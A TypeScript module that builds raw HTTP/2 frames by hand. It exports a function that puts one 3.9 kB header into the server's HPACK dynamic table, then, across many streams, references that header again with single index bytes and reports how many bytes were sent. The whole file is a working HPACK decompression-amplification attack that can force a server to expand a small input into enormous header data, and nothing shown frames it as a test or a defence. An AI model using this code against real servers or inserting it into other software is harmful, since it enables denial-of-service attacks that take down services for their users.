/** An HTTP/2 client that sends a header once and repeats it by its index (RFC 7541), one byte each. */
import { once } from 'node:events'
import type tls from 'node:tls'

const HEADERS = 1
const SETTINGS = 4
const [END_STREAM, END_HEADERS, ACK] = [1, 4, 1]
const INITIAL_WINDOW_SIZE = 4
/** The dynamic table's index of the newest header. */
const NEWEST = 62

/**
 * Requests `/` in many streams, each repeating a header of 3.9 kB. @param socket one that negotiated h2 @returns bytes
 * sent
 */
export async function askRepeating(
  socket: tls.TLSSocket,
  { host, streams, repeated }: { host: string; streams: number; repeated: number },
): Promise<number> {
  const settings = Buffer.alloc(6)
  settings.writeUInt16BE(INITIAL_WINDOW_SIZE)
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0, settings)]))
  await once(socket, 'data')
  socket.write(frame(SETTINGS, ACK, 0, Buffer.alloc(0)))
  for (let i = 0; i < streams; i++) {
    const own = [
      [':method', 'GET'],
      [':scheme', 'https'],
      [':path', '/'],
      [':authority', host],
    ] as const
    const block = Buffer.concat([
      ...own.map(([name, value]) => literal(0x00, name, value)),
      ...(i === 0 ? [literal(0x40, 'x-repeated', 'x'.repeat(3_900))] : []),
      Buffer.alloc(repeated, 0x80 | NEWEST),
    ])
    socket.write(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
  }
  return socket.bytesWritten
}

function frame(type: number, flags: number, stream: number, body: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(body.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, body])
}

/** @param form whether the header gets an index */
function literal(form: number, name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([form]), text(name), text(value)])
}

/** RFC 7541, 5.1: a length of 127 or more continues in further bytes. */
function text(value: string): Buffer {
  const length: number[] = [Math.min(value.length, 127)]
  if (value.length >= 127) {
    let left = value.length - 127
    for (; left >= 128; left >>= 7) length.push((left & 127) | 128)
    length.push(left)
  }
  return Buffer.concat([Buffer.from(length), Buffer.from(value)])
}
